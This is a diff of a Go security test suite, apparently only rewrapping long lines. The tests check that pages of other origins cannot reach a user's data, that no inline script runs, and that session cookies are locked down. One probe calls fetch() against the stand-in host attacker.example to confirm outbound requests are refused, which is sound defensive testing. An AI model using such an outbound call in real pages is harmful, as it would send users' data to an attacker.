@@ -87,18 +87,22 @@ func TestThreat36PagesOfOtherOrigins(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			u := &user{&site{t: t, svc: s.svc, dir: s.dir, url: s.url}, alice.id, alice.key}
 			b := u.browse()
-			for _, text := range []string{"status of 403", "status of 401", "status of 400", "status of 404", "blocked by CORS policy", "ERR_FAILED", "frame-ancestors",
-				"ERR_BLOCKED_BY_RESPONSE", "X-Frame-Options", "Refused to display", "chrome-error", "MIME type", "Cross-Origin"} {
+			for _, text := range []string{"status of 403", "status of 401", "status of 400", "status of 404",
+				"blocked by CORS policy", "ERR_FAILED", "frame-ancestors",
+				"ERR_BLOCKED_BY_RESPONSE", "X-Frame-Options", "Refused to display", "chrome-error", "MIME type",
+				"Cross-Origin"} {
 				b.expect(text)
 			}
 			b.open(origin)
 			b.await("window.results")
 			for _, result := range eval[[]string](b, "window.results") {
-				if strings.Contains(result, "200") || strings.Contains(result, alice.id) || strings.Contains(result, "loaded") {
+				if strings.Contains(result, "200") || strings.Contains(result, alice.id) ||
+					strings.Contains(result, "loaded") {
 					t.Errorf("a page of %s: %s", origin, result)
 				}
 			}
-			if status, body := alice.tool(wire.OpGetOwnedGroups, nil); status != http.StatusOK || !strings.Contains(body, `"result":[]`) {
+			if status, body := alice.tool(wire.OpGetOwnedGroups, nil); status != http.StatusOK ||
+				!strings.Contains(body, `"result":[]`) {
 				t.Errorf("the key was rotated or a group was made: %d %s", status, body)
 			}
 			b.open(s.url + "/account/")
@@ -167,7 +171,8 @@ func TestThreat36NoInlineScriptRuns(t *testing.T) {
 	if eval[bool](b, "window.pwned !== undefined") {
 		t.Error("a script ran that is not a file of ours")
 	}
-	if got := eval[string](b, "fetch('http://attacker.example/').then(() => 'sent', () => 'refused')"); got != "refused" {
+	if got := eval[string](b, "fetch('http://attacker.example/').then(() => 'sent', () => "+
+		"'refused')"); got != "refused" {
 		t.Errorf("a request to another site was %s", got)
 	}
 }
@@ -189,7 +194,8 @@ func TestThreat36SessionOverTLS(t *testing.T) {
 	if err != nil || len(cookies) != 1 {
 		t.Fatalf("%v %v", cookies, err)
 	}
-	if c := cookies[0]; c.Name != "__Host-svc_session" || !c.Secure || !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict {
+	if c := cookies[0]; c.Name != "__Host-svc_session" || !c.Secure || !c.HTTPOnly ||
+		c.SameSite != network.CookieSameSiteStrict {
 		t.Errorf("%+v", c)
 	}
 	b.click("Sign out")
